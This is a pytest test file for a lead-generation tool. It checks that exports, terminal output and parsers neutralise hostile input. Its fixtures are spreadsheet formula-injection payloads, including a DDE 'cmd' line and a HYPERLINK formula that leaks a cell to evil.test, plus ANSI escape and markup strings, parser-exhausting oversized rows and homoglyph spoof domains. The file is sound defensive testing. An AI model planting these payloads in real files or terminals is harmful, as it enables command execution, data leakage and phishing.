"""Hostile input, everywhere: spreadsheet formulas in exports, markup and escapes in terminal
output, '#' inside directory fields, oversized blocklist files, broken database URLs and
homoglyph domains. Each is data, or a clear InvalidInput; never a traceback."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta, timezone

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import insert, update
from typer.testing import CliRunner

from leadflow.app import runs as run_service
from leadflow.cli import main as cli
from leadflow.cli.output import plain
from leadflow.delivery.export import COLUMNS, export_columns, write_export
from leadflow.discovery.directory import load_directory
from leadflow.domain.blocklist import MAX_LINE, parse_domains, read_lines
from leadflow.domain.domains import InvalidDomain, normalise_domain
from leadflow.domain.errors import InvalidInput
from leadflow.domain.models import RunRequest
from leadflow.store import StoreUnavailable, UnitOfWork, safe_url
from leadflow.store.engine import _create, _without_secret, dispose_all, get_engine
from leadflow.store.schema import batches, candidates, runs

FORMULAS = [
    "=1+1",
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.test/?leak="&A2,"Click")',
    "=cmd|' /C calc'!A0",
]
HOSTILE = "[bold red]Evil[/] [/] \x1b[31mred\x1b[0m [link=https://evil.test]x[/link]"


def row(**values) -> dict:
    base = {
        "name": "Acme PM",
        "domain": "acme.test",
        "city": "Austin",
        "state": "TX",
        "pms": "Buildium",
        "evidence_url": "https://acme.managebuilding.com/Resident/portal/login",
        "confidence": "medium",
        "batch_number": 1,
        "evidence_method": "unverified",
        "evidence_checked_at": None,
        "evidence_http_status": None,
    }
    return {**base, **values}


# --- 1. exports: formulas are text in spreadsheets, raw elsewhere ----------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_export_prefixes_a_formula_with_a_single_quote(tmp_path, value):
    path = tmp_path / "leads.csv"
    write_export([row(name=value, city=value)], COLUMNS, path)
    with path.open(newline="", encoding="utf-8") as handle:
        exported = next(csv.DictReader(handle))
    assert exported["name"] == exported["city"] == "'" + value


def test_csv_export_keeps_a_carriage_return_inside_its_cell(tmp_path):
    path = tmp_path / "leads.csv"
    write_export([row(name="Acme\r=1+1", city="Austin\n=2+2")], COLUMNS, path)
    with path.open(newline="", encoding="utf-8") as handle:
        exported = list(csv.DictReader(handle))
    assert len(exported) == 1  # no second row starting with '=1+1'
    assert (exported[0]["name"], exported[0]["city"]) == ("Acme\r=1+1", "Austin\n=2+2")


def test_csv_export_leaves_everything_else_as_stored(tmp_path):
    path = tmp_path / "leads.csv"
    values = {"name": "Smith #2 Realty", "city": "O'Fallon", "evidence_url": "https://a.test/?x=1+1#=top"}
    write_export([row(**values, evidence_http_status=-1)], COLUMNS, path)
    exported = pd.read_csv(path, dtype=str, keep_default_na=False).iloc[0]
    assert {k: exported[k] for k in values} == values
    assert exported["evidence_http_status"] == "-1"  # a number is not text: it stays a number


@pytest.mark.parametrize("value", FORMULAS + ["#N/A", "#REF!"])
def test_xlsx_export_writes_formulas_as_string_cells(tmp_path, value):
    path = tmp_path / "leads.xlsx"
    write_export([row(name=value)], COLUMNS, path)
    cell = openpyxl.load_workbook(path).active["A2"]
    assert cell.data_type == "s"  # shown, never evaluated
    assert cell.value == value.replace("\r", "\n")  # XML itself reads a bare CR as a line feed


def test_xlsx_export_survives_time_zones_and_control_characters(tmp_path):
    path = tmp_path / "leads.xlsx"
    checked = datetime(2026, 1, 1, 2, 0, tzinfo=timezone(timedelta(hours=2)))  # what Postgres hands back
    write_export([row(evidence_checked_at=checked, name="Acme\x01PM")], COLUMNS, path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet["J2"].value == datetime(2026, 1, 1, 0, 0)  # UTC, as stored
    assert sheet["A2"].value == "Acme\ufffdPM"


@pytest.mark.parametrize("suffix", [".json", ".parquet"])
def test_json_and_parquet_keep_the_raw_value(tmp_path, suffix):
    path = tmp_path / f"leads{suffix}"
    write_export([row(name=value) for value in FORMULAS], COLUMNS, path)
    frame = pd.read_parquet(path) if suffix == ".parquet" else pd.DataFrame(json.loads(path.read_text()))
    assert list(frame["name"]) == FORMULAS


def test_export_columns_add_checks_only_when_present_and_rejection_details_when_asked():
    assert export_columns([row()], False) == COLUMNS
    assert export_columns([row(site_check="ok")], True) == COLUMNS + ["site_check", "status", "reason", "detail", "raw_domain"]


@pytest.mark.parametrize(
    "name,message",
    [
        ("leads.txt", "-o: unsupported file type '.txt'; allowed: .csv, .xlsx, .parquet, .json"),
        ("leads", "-o: unsupported file type '(none)'"),
        ("missing/leads.csv", "-o: folder"),
    ],
)
def test_export_refuses_what_it_cannot_write(tmp_path, name, message):
    with pytest.raises(InvalidInput, match=message.replace("(", r"\(").replace(")", r"\)")):
        write_export([row()], COLUMNS, tmp_path / name, field="-o")


def test_export_into_a_directory_is_invalid_input_not_a_traceback(tmp_path):
    (tmp_path / "taken.csv").mkdir()
    with pytest.raises(InvalidInput, match="cannot write"):
        write_export([row()], COLUMNS, tmp_path / "taken.csv")


# --- 2. terminal output: stored and agent text is never markup or escape codes -------------------


@pytest.fixture
def store(migrated_sqlite_url, monkeypatch):
    url = migrated_sqlite_url
    monkeypatch.setenv("LEADFLOW_DATABASE_URL", url)
    yield url
    dispose_all()


def hostile_run(url: str) -> str:
    """A run whose every free-text field an agent or a directory could fill is hostile."""
    with UnitOfWork(url) as uow:
        run_id = run_service.open_run(uow, RunRequest.parse(source="sample", pms="Buildium", state="TX", quantity=5)).run_id
    with UnitOfWork(url) as uow:
        uow.conn.execute(
            update(runs).where(runs.c.id == run_id).values(status_reason=HOSTILE, source=HOSTILE, pms="[/]\x1b[5mBuildium")
        )
        uow.conn.execute(
            insert(batches).values(
                run_id=run_id, number=1, loop=1, partition="[/]", requested=5, error=HOSTILE, created_at=datetime.now(UTC)
            )
        )
        uow.conn.execute(
            insert(candidates).values(
                run_id=run_id, batch_number=1, status="rejected", reason="[/]\x1b[2J", created_at=datetime.now(UTC)
            )
        )
        uow.commit()
    return run_id


@pytest.mark.parametrize("args", [["status", "{run_id}"], ["status"]])
def test_status_prints_hostile_text_literally(store, args):
    run_id = hostile_run(store)
    result = CliRunner().invoke(cli.app, [a.format(run_id=run_id) for a in args])
    assert result.exit_code == 0, result.output
    assert result.exception is None
    assert "\x1b" not in result.output  # no escape code reaches the terminal...
    assert "[/]\\x1b[5mBuildium" in result.output  # ...it is shown instead
    if args == ["status", "{run_id}"]:
        assert "[bold red]Evil[/] [/] \\x1b[31mred" in result.output
        assert "[/]\\x1b[2J" in result.output


def test_a_table_cell_is_plain_text():
    cell = plain("[bold]x[/]\x1b[31m\n\x9b")
    assert cell.plain == "[bold]x[/]\\x1b[31m\\n\\x9b" and not cell.spans


def test_blocklist_import_prints_invalid_lines_literally(store, tmp_path):
    file = tmp_path / "list.txt"
    file.write_text("acme.test\n[/]\n[bold red]x\n")
    result = CliRunner().invoke(cli.app, ["blocklist", "import", str(file)])
    assert result.exit_code == 0, result.output
    assert "invalid: '[/]'" in result.output and "invalid: '[bold red]x'" in result.output


# --- 3. directory CSVs: only whole lines starting with '#' are comments -----------------------


def test_a_hash_inside_a_directory_field_is_data(tmp_path):
    path = tmp_path / "directory.csv"
    path.write_text(
        "# exported 2026-01-01, by hand\n"
        "name,domain,city,state,pms,evidence_url\n"
        "  # an indented comment\n"
        "Smith #2 Realty,smith2.test,Austin,TX,Buildium,https://smith.managebuilding.com/Resident/portal/login#top\n"
        '"Quoted\n# not a comment: inside a quoted field",quoted.test,Austin,TX,Buildium,\n'
        "#1 Homes,ignored.test,Austin,TX,Buildium,\n"  # a line starting with '#' is a comment
    )
    rows = load_directory(path)
    assert [row.name for row in rows] == ["Smith #2 Realty", "Quoted\n# not a comment: inside a quoted field"]
    assert rows[0].evidence_url.endswith("/login#top")
    assert [row.norm_domain for row in rows] == ["smith2.test", "quoted.test"]


# --- 4. blocklist files: oversized fields and rows ------------------------------------------------


@pytest.mark.parametrize(
    "text,message",
    [
        ("acme.test\n" + "a" * 10_000_000 + "\n", f"line 2: longer than {MAX_LINE:,} characters"),
        ("domain\n" + "x," * 3_000_000 + "\n", f"line 2: longer than {MAX_LINE:,} characters"),  # millions of columns
        ("acme.test\n" + "b" * 200_000 + "\n", "line 2: cannot read it as CSV (field larger than field limit"),
        ('acme.test\n"' + ("c" * 1000 + "\n") * 200 + '"\n', "cannot read it as CSV (field larger than field limit"),
    ],
)
def test_an_oversized_blocklist_is_invalid_input(tmp_path, text, message):
    path = tmp_path / "huge.csv"
    path.write_text(text)
    with pytest.raises(InvalidInput, match="FILE: ") as err:
        read_lines(path)
    assert message in str(err.value)


def test_a_wide_but_sane_blocklist_row_is_read(tmp_path):
    path = tmp_path / "wide.csv"
    path.write_text("name,domain," + ",".join(f"c{i}" for i in range(50_000)) + "\nAcme,acme.test\n")
    assert read_lines(path) == ["acme.test"]


def test_an_overlong_value_is_invalid_and_shown_shortened():
    parsed = parse_domains(["acme.test", "x" * 10_000_000])
    assert parsed.domains == ["acme.test"]
    assert parsed.invalid == ["x" * 100 + "... (10,000,000 characters)"]


def test_an_oversized_blocklist_file_exits_2_in_the_cli(store, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text("b" * 200_000 + "\n")
    result = CliRunner().invoke(cli.app, ["blocklist", "import", str(path)])
    assert result.exit_code == 2 and "field larger than field limit" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


# --- 5. database URLs: exit 2, the password never shown ---------------------------------------

SECRET = "S3CR@T99"  # contains '@' on purpose


@pytest.mark.parametrize(
    "url,masked",
    [
        ("postgresql://u:hunter2@db/leads", "postgresql://u:***@db/leads"),
        (f"postgresql://u:{SECRET}@db.test/leads", "postgresql://u:***@db.test/leads"),
        ("postgresql://u:hunter2@db.test:abc/leads", "postgresql://u:***@db.test:abc/leads"),
        (f"postgresql://u:{SECRET}@db.test:abc/leads", "postgresql://u:***@db.test:abc/leads"),
        ("postgresql://u:pa/ss?w@db.test/leads", "postgresql://u:***@db.test/leads"),
        ("postgresql://u:@S3CR/T99@db.test/leads", "postgresql://u:***@db.test/leads"),
        ("postgresql://user@corp:hunter2@db.test/leads", "postgresql://user%40corp:***@db.test/leads"),
        ("postgresql://db.test/leads?application_name=a@b", "postgresql://db.test/leads?application_name=a%40b"),
        ("sqlite:///leads.db", "sqlite:///leads.db"),
        ("u:hunter2@db.test/leads", "<unparseable URL>"),
    ],
)
def test_safe_url_masks_the_password_even_when_the_url_does_not_parse(url, masked):
    assert safe_url(url) == masked


@pytest.mark.parametrize(
    "url,message",
    [
        ("postgresql://u:hunter2@db.test:abc/leads", "the port is not a number in postgresql://u:***@db.test:abc/leads"),
        (
            f"postgresql://u:{SECRET}@db.test/leads",
            "contains '@' (or another '@' follows it); write '@' as %40 in postgresql://u:***@db.test/leads",
        ),
        (f"postgresql+psycopg://u:{SECRET}@db.test:5432/leads", "contains '@'"),
        (f"postgresql://u:{SECRET}:5432@db.test/leads", "contains '@'"),  # '5432@db.test' is no port either
        ("postgresql://u:@S3CR/T99@db.test/leads", "write '@' as %40 in postgresql://u:***@db.test/leads"),  # nor a database
        ("not a url", "not a SQLAlchemy database URL"),
        ("nosuchdb://u:hunter2@db.test/leads", "unsupported database URL nosuchdb://u:***@db.test/leads"),
        ("sqlite:////proc/no/such/folder/leads.db", "cannot create the folder /proc/no/such/folder"),
    ],
)
def test_a_bad_database_url_is_invalid_input_without_the_password(url, message):
    with pytest.raises(InvalidInput) as err:
        _create(url)
    text = str(err.value)
    assert text.startswith("LEADFLOW_DATABASE_URL: ") and message in text
    assert "hunter2" not in text and "S3CR" not in text and "T99" not in text


def test_an_unreachable_store_is_unavailable_without_the_password():
    with pytest.raises(StoreUnavailable) as err:
        get_engine("postgresql://u:hunter2@127.0.0.1:1/leads")
    assert "postgresql://u:***@127.0.0.1:1/leads" in str(err.value) and "hunter2" not in str(err.value)


def test_a_driver_message_quoting_the_password_is_scrubbed():
    url = "postgresql://u:hunter%232@db.test/leads"  # percent-encoded: the driver sees 'hunter#2'
    assert _without_secret('bad value "hunter#2" near "hunter%232"', url) == 'bad value "***" near "***"'


def test_a_short_password_is_cut_where_it_stands_alone_not_inside_words():
    url = "postgresql://u:p@db.test/leads"
    message = 'server not accepting connections; password "p" for u:p@db.test'
    assert _without_secret(message, url) == 'server not accepting connections; password "***" for u:***@db.test'


@pytest.mark.parametrize("url", ["postgresql://u:hunter2@db.test:abc/leads", f"postgresql://u:{SECRET}@db.test/leads"])
def test_the_cli_exits_2_on_a_bad_database_url_and_never_shows_the_password(url):
    result = CliRunner().invoke(cli.app, ["status"], env={"LEADFLOW_DATABASE_URL": url})
    assert result.exit_code == 2, result.output
    assert "LEADFLOW_DATABASE_URL: " in result.output and "***" in result.output
    assert "hunter2" not in result.output and "S3CR" not in result.output and "Traceback" not in result.output


# --- 6. homoglyphs: a label mixing scripts is not a company's domain ----------------------------


@pytest.mark.parametrize(
    "raw,scripts",
    [
        ("аcme-pm.com", "Cyrillic, Latin"),  # Cyrillic 'а'
        ("xn--cme-pm-2nf.com", "Cyrillic, Latin"),  # the same, already punycode
        ("https://www.acmе.com/login", "Cyrillic, Latin"),  # Cyrillic 'е' at the end
        ("αcme.co.uk", "Greek, Latin"),
        ("pay.аcme.com", "Cyrillic, Latin"),  # any label, not only the registrable one
        ("приmer.рф", "Cyrillic, Latin"),
    ],
)
def test_a_mixed_script_label_is_invalid(raw, scripts):
    with pytest.raises(InvalidDomain, match=f"^mixed scripts in .*\\({scripts}\\)$"):
        normalise_domain(raw)


@pytest.mark.parametrize(
    "raw,expected",
    [
        ("пример.рф", "xn--e1afmkfd.xn--p1ai"),  # all Cyrillic
        ("παράδειγμα.gr", "xn--hxajbheg2az3al.gr"),  # all Greek
        ("中国.cn", "xn--fiqs8s.cn"),  # Han
        ("ドメイン名例.jp", "xn--eckwd4c7cu47r2wf.jp"),  # Katakana with Han: how Japanese is written
        ("日本語ー.jp", "xn--wekz60nb2abz6g.jp"),  # 'ー' belongs to no one script
        ("ABC不動産.jp", "xn--abc-928dq2trx1d.jp"),  # Latin with Han (UTS #39 allows it)
        ("한국abc.kr", "xn--abc-lt8lk11n.kr"),  # Hangul with Latin
        ("bücher-2.de", "xn--bcher-2-n2a.de"),  # Latin with digits and a hyphen
        ("acme.рф", "acme.xn--p1ai"),  # scripts are judged per label
    ],
)
def test_a_single_script_label_stays_valid(raw, expected):
    assert normalise_domain(raw) == expected
